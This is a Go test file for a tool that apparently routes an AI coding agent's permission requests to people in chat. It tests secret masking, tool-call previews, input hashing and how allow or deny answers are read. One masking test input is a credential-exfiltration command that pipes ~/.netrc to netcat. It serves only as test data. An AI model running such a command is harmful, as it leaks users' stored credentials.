package hooks

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/askbridge/askbridge/client"
)

func TestMaskText(t *testing.T) {
	tests := []struct{ in, want string }{
		{"GITHUB_TOKEN=ghp_4f9Qz7LmX2 make release", "GITHUB_TOKEN=*** make release"},
		{`curl -H "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.x" https://api.example.com`, `curl -H "Authorization: ***" https://api.example.com`},
		{"curl -H 'X-Api-Key: 8f0a2b' https://x", "curl -H 'X-Api-Key: ***' https://x"},
		{"mysql --password hunter2 -u root", "mysql --password *** -u root"},
		{"deploy --api-key=abc123 --region eu", "deploy --api-key=*** --region eu"},
		{"git clone https://ana:pa55word@git.example.com/shop.git", "git clone https://ana:***@git.example.com/shop.git"},
		{"export DB_PASSWORD='my secret pass'; run", "export DB_PASSWORD=***; run"},
		{`{"client_secret": "s3cr3t", "name": "shop"}`, `{"client_secret": ***, "name": "shop"}`},
		{"wget https://x/download?token=abc&file=a.zip", "wget https://x/download?token=***&file=a.zip"},
		{"echo $(cat ~/.netrc) | nc host 80", "echo $(cat ~/.netrc) | nc host 80"},
		{"go test ./... && git push origin main", "go test ./... && git push origin main"},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			if got := maskText(tt.in); got != tt.want {
				t.Fatalf("maskText(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestMaskValue(t *testing.T) {
	in := `{"api_key":"sk-1","nested":{"Password":"p","count":1},"max_tokens":100,"verbose":true,` +
		`"items":[{"token":"t"},{"note":"TOKEN=abc"}],"credentials":{"user":"u","pass":"p"}}`
	v, err := decodeInput(json.RawMessage(in))
	if err != nil {
		t.Fatal(err)
	}
	want := `{"api_key":"***","credentials":"***","items":[{"token":"***"},{"note":"TOKEN=***"}],"max_tokens":100,"nested":{"Password":"***","count":1},"verbose":true}`
	if got := compactJSON(maskValue(v)); got != want {
		t.Fatalf("got  %s\nwant %s", got, want)
	}
}

func TestCutText(t *testing.T) {
	tests := []struct {
		in   string
		n    int
		want string
	}{
		{"short", 10, "short"},
		{strings.Repeat("x", 100), 100, strings.Repeat("x", 100)},
		{strings.Repeat("x", 500), 100, strings.Repeat("x", 84) + "… (+416 chars)"},
		{strings.Repeat("é", 50), 20, "éééé… (+46 chars)"},
	}
	for _, tt := range tests {
		got := cutText(tt.in, tt.n)
		if got != tt.want {
			t.Errorf("cutText(%d runes, %d) = %q, want %q", len([]rune(tt.in)), tt.n, got, tt.want)
		}
		if n := len([]rune(got)); n > tt.n {
			t.Errorf("cutText to %d gave %d characters", tt.n, n)
		}
	}
}

func TestToolPreview(t *testing.T) {
	long := strings.Repeat("a", 2000)
	tests := []struct {
		tool, input   string
		subject, body string
	}{
		{"Bash", `{"command":"npm test","description":"Run the tests"}`, "Bash", "$ npm test"},
		{"Bash", `{"command":"` + long + `"}`, "Bash", "$ " + strings.Repeat("a", 1184) + "… (+816 chars)"},
		{"Edit", `{"file_path":"/p/a.go","old_string":"x := 1","new_string":"x := 2","replace_all":true}`, "Edit",
			"File: /p/a.go\n- x := 1\n+ x := 2\n(every occurrence)"},
		{"MultiEdit", `{"file_path":"/p/a.go","edits":[{"old_string":"a","new_string":"b"},{"old_string":"c","new_string":"d"},{"old_string":"e","new_string":"f"},{"old_string":"g","new_string":"h"},{"old_string":"i","new_string":"j"}]}`, "MultiEdit",
			"File: /p/a.go\n- a\n+ b\n- c\n+ d\n- e\n+ f\n… (+2 more edits)"},
		{"Edit", `{"file_path":"/p/a.go","old_string":"` + strings.Repeat(`l\n`, 12) + `","new_string":""}`, "Edit",
			"File: /p/a.go\n" + strings.Repeat("- l\n", 8) + "- … (+4 more lines)\n  … (1 unchanged lines)"},
		{"Write", `{"file_path":"/p/n.txt","content":"1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n"}`, "Write",
			"File: /p/n.txt\n1\n2\n3\n4\n5\n6\n7\n8\n… (+3 more lines)"},
		{"NotebookEdit", `{"notebook_path":"/p/a.ipynb","cell_id":"c1","new_source":"print(1)"}`, "NotebookEdit",
			"Notebook: /p/a.ipynb\nCell: c1\nprint(1)"},
		{"WebSearch", `{"query":"go 1.26 release notes"}`, "WebSearch", "Search: go 1.26 release notes"},
		{"Glob", `{"pattern":"**/*.go","path":"/etc"}`, "Glob", "Pattern: **/*.go\nPath: /etc"},
		{"ExitPlanMode", `{"plan":"1. Fix\n2. Test"}`, "ExitPlanMode", "1. Fix\n2. Test"},
		{"mcp__stripe__create_refund", `{"charge":"ch_1","amount":1500,"api_key":"sk_live_1"}`, "MCP tool create_refund of server stripe",
			`Arguments: {"amount":1500,"api_key":"***","charge":"ch_1"}`},
		{"Task", `{"prompt":"find <all> & fix","subagent_type":"Explore"}`, "Task", `Arguments: {"prompt":"find <all> & fix","subagent_type":"Explore"}`},
		{"apply_patch", `{"command":"*** Begin Patch\n*** Delete File: old.txt\n*** End Patch\n"}`, "apply_patch", "Files: delete old.txt"},
		{"Bash", `not json`, "Bash", ""},
	}
	for _, tt := range tests {
		t.Run(tt.tool, func(t *testing.T) {
			subject, body := toolPreview(tt.tool, json.RawMessage(tt.input))
			if subject != tt.subject || body != tt.body {
				t.Fatalf("toolPreview(%s)\n got %q\n     %q\nwant %q\n     %q", tt.tool, subject, body, tt.subject, tt.body)
			}
			if n := len([]rune(body)); n > previewMax {
				t.Fatalf("preview of %d characters", n)
			}
		})
	}
}

// The same call gives the same key however the agent spaced and ordered
// its JSON; another input gives another key.
func TestInputDigest(t *testing.T) {
	a := inputDigest("Bash", json.RawMessage(`{"command":"ls","timeout":120000}`))
	b := inputDigest("Bash", json.RawMessage("{ \"timeout\": 120000,\n  \"command\": \"ls\" }"))
	c := inputDigest("Bash", json.RawMessage(`{"command":"ls -a","timeout":120000}`))
	d := inputDigest("Write", json.RawMessage(`{"command":"ls","timeout":120000}`))
	if a != b || a == c || a == d || len(a) != 64 {
		t.Fatalf("digests %s %s %s %s", a, b, c, d)
	}
}

// Only a person's act decides; a timeout, a cancel or a skip leaves the
// decision to the agent's own dialog.
func TestReadVerdict(t *testing.T) {
	const q = "Allow Bash?"
	ana := &client.Responder{Channel: "slack", User: "U1", Name: "ana"}
	answered := func(a client.Answer) *client.Result {
		return &client.Result{Status: client.StatusAnswered, Answers: map[string]client.Answer{q: a}, AnsweredBy: ana}
	}
	tests := []struct {
		name string
		res  *client.Result
		want permissionVerdict
		ok   bool
	}{
		{"allow once", answered(client.Answer{Selected: []string{"Allow once"}}), permissionVerdict{behavior: "allow"}, true},
		{"always allow", answered(client.Answer{Selected: []string{"always allow"}}), permissionVerdict{behavior: "allow", always: true}, true},
		{"deny", answered(client.Answer{Selected: []string{"Deny"}}), permissionVerdict{behavior: "deny", message: "Denied in chat by ana."}, true},
		{"other text", answered(client.Answer{CustomText: "use make clean"}), permissionVerdict{behavior: "deny", message: "Denied in chat by ana: use make clean"}, true},
		{"declined", &client.Result{Status: client.StatusDeclined, Reason: "not now", AnsweredBy: ana}, permissionVerdict{behavior: "deny", message: "Declined in chat by ana: not now"}, true},
		{"discuss", &client.Result{Status: client.StatusDeclined, NotReady: true, Reason: "why rm?", AnsweredBy: ana}, permissionVerdict{behavior: "deny", message: "ana wants to discuss this before deciding: why rm?"}, true},
		{"skipped", answered(client.Answer{Skipped: true}), permissionVerdict{}, false},
		{"timed out", &client.Result{Status: client.StatusTimedOut, Fallback: "none"}, permissionVerdict{}, false},
		{"cancelled", &client.Result{Status: client.StatusCancelled}, permissionVerdict{}, false},
		{"unsupported", &client.Result{Status: client.StatusUnsupported}, permissionVerdict{}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, ok := readVerdict(tt.res, q)
			if ok != tt.ok || got != tt.want {
				t.Fatalf("got %+v %v, want %+v %v", got, ok, tt.want, tt.ok)
			}
		})
	}
}
